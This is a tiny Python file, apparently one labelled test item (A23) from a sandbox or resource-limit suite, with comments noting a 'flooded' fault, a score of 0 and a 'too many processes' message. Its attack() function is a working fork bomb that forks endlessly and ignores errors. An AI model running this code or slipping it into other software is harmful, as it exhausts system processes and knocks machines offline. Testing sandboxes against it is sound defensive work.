# A23 forks as fast as it can
# fault: flooded
# score: 0
# told: too many processes
def attack():
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass
